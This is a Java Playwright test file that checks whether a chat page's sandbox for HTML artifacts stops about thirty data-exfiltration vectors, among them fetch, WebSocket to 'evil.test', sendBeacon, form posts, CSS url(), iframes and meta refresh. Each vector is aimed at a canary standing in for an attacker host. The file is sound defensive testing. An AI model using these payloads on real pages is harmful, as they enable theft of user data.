package dev.vitrine.browser;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Page;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile HTML artifacts shown in the real chat page try to send data to a canary server;
 * the canary must see nothing. Each payload logs {@code probe:ran} once it has made its
 * attempt, so a vector cannot pass by failing to run. {@code C} in a payload is the canary
 * under an attacker host name; {@code L} is the canary by loopback address.
 */
class EscapeVectorsTest {
    @RegisterExtension
    static final BrowserSession session = new BrowserSession();

    private static final String RAN = "<script>console.log('probe:ran')</script>";
    private static final String INLINE_SCRIPT = "window.inlineProbe = 1;";
    private static final long SETTLE_MILLIS = 1_200;

    static Stream<Arguments> vectors() {
        return Stream.of(
                vector("fetch", "<script>fetch('C/fetch').catch(() => {}); fetch('L/fetch-loopback', {mode: 'no-cors'}).catch(() => {});</script>" + RAN),
                vector("XMLHttpRequest", "<script>try { const x = new XMLHttpRequest(); x.open('GET', 'C/xhr'); x.send(); } catch (e) {}</script>" + RAN),
                vector("WebSocket", "<script>try { new WebSocket('ws://evil.test:PORT/ws'); } catch (e) {}</script>" + RAN),
                vector("EventSource", "<script>try { new EventSource('C/sse'); } catch (e) {}</script>" + RAN),
                vector("sendBeacon", "<script>try { navigator.sendBeacon('C/beacon', 'secret'); } catch (e) {}</script>" + RAN),
                vector("img element", "<img src='C/img' alt=''><script>new Image().src = 'L/img-js';</script>" + RAN),
                vector("CSS url() in style attribute and sheet", "<div style=\"background:url('C/css-attr')\">x</div>"
                        + "<style>body { background: url('C/css-sheet'); }</style>" + RAN),
                vector("CSS @import", "<style>@import url('C/import.css');</style>" + RAN),
                vector("stylesheet link", "<link rel='stylesheet' href='C/sheet.css'>" + RAN),
                vector("web font", "<style>@font-face { font-family: x; src: url('C/font.woff2'); } p { font-family: x; }</style><p>text</p>" + RAN),
                vector("media elements", "<video src='C/video.mp4' autoplay muted></video><audio src='C/audio.mp3' autoplay></audio>" + RAN),
                vector("script src", "<script src='C/script.js'></script>" + RAN),
                vector("module script src", "<script type='module' src='C/module.js'></script><script type='module'>console.log('probe:ran')</script>"),
                vector("dynamic import()", "<script>import('C/import.js').catch(() => {}).finally(() => console.log('probe:ran'));</script>"),
                vector("script given document.currentScript.nonce", "<script>const s = document.createElement('script'); s.nonce = document.currentScript.nonce;"
                        + " s.src = 'C/nonce.js'; document.head.append(s);</script>" + RAN),
                vector("script with integrity of an own inline script", "<script>" + INLINE_SCRIPT + "</script>"
                        + "<script src='C/sri.js' integrity='sha256-" + sha256(INLINE_SCRIPT) + "'></script>" + RAN),
                vector("document.write of an image", "<script>document.write(\"<img src='C/document-write'>\");</script>" + RAN),
                vector("form submit", "<form id='f' action='C/form' method='post'><input name='secret' value='s3cret'></form>"
                        + "<script>console.log('probe:ran'); document.getElementById('f').submit();</script>"),
                vector("form requestSubmit with a button", "<form id='f' action='C/form-button'><button id='b'>go</button></form>"
                        + "<script>console.log('probe:ran'); document.getElementById('f').requestSubmit(document.getElementById('b'));</script>"),
                vector("base element", "<base href='C/base/'><img src='relative.png'>" + RAN),
                vector("top navigation", "<script>console.log('probe:ran'); try { top.location = 'C/top'; } catch (e) {}</script>"),
                vector("window.open popup", "<script>console.log('probe:ran'); try { window.open('C/popup'); } catch (e) {}</script>"),
                vector("link with target _blank", "<a id='a' href='C/blank' target='_blank'>x</a><script>console.log('probe:ran'); document.getElementById('a').click();</script>"),
                vector("self-navigation with location", "<script>console.log('probe:ran'); location.href = 'C/self';</script>"),
                vector("self-navigation with a link click", "<a id='a' href='C/link'>x</a><script>console.log('probe:ran'); document.getElementById('a').click();</script>"),
                vector("meta refresh in markup", "<meta http-equiv='refresh' content='0;url=C/refresh'>" + RAN),
                vector("meta refresh inserted by script", "<script>console.log('probe:ran'); const m = document.createElement('meta');"
                        + " m.httpEquiv = 'refresh'; m.content = '0;url=C/refresh-dom'; document.head.append(m);</script>"),
                vector("nested iframe", "<iframe src='C/iframe'></iframe><iframe srcdoc=\"<img src='C/srcdoc'>\"></iframe>" + RAN),
                vector("object and embed", "<object data='C/object'></object><embed src='C/embed'>" + RAN),
                vector("dedicated worker", "<script>try { new Worker('C/worker.js'); } catch (e) {}</script>" + RAN),
                vector("prefetch and prerender hints", "<link rel='prefetch' href='C/prefetch'><link rel='prerender' href='C/prerender'>" + RAN),
                vector("SVG image in HTML", "<svg width='10' height='10'><image href='C/svg-image' width='10' height='10'/></svg>" + RAN));
    }

    @BeforeEach
    void resetCanary() {
        session.canary().reset();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("vectors")
    void artifactCannotReachTheCanary(String name, String payload) {
        String html = payload.replace("'C/", "'" + session.canary().url() + "/")
                .replace("\"C/", "\"" + session.canary().url() + "/")
                .replace("'L/", "'" + session.canary().loopbackUrl() + "/")
                .replace("PORT", String.valueOf(session.canary().port()));
        String id = session.client().create("html", name, html).get("id").asText();

        Page page = session.newPage();
        page.waitForConsoleMessage(new Page.WaitForConsoleMessageOptions().setPredicate(m -> m.text().equals("probe:ran")),
                () -> page.navigate(session.chatUrl(id)));
        page.waitForTimeout(SETTLE_MILLIS);

        assertEquals(List.of(), session.canary().hits(), "the canary was reached by: " + name);
        assertEquals(1, page.context().pages().size(), "a popup opened for: " + name);
        page.context().close();
    }

    @Test
    void controlTheBrowserReachesTheCanaryByItsAttackerName() {
        Page page = session.newPage();
        page.navigate(session.canary().url() + "/control");
        assertEquals(List.of("GET /control"), session.canary().hits());
        page.context().close();
    }

    @Test
    void controlTheSamePayloadsLeakFromAPageWithoutVitrine() {
        Page page = session.newPage();
        page.navigate(session.canary().loopbackUrl() + "/unprotected-page");
        page.setContent("<img src='" + session.canary().url() + "/img'>"
                + "<script>fetch('" + session.canary().url() + "/fetch', {mode: 'no-cors'});</script>"
                + "<style>body { background: url('" + session.canary().url() + "/css-sheet'); }</style>");
        page.waitForTimeout(SETTLE_MILLIS);
        List<String> hits = session.canary().hits();
        assertTrue(hits.containsAll(List.of("GET /img", "GET /fetch", "GET /css-sheet")), "hits were " + hits);
        page.context().close();
    }

    private static Arguments vector(String name, String payload) {
        return Arguments.of(name, payload);
    }

    static String sha256(String text) {
        try {
            return Base64.getEncoder().encodeToString(MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8)));
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
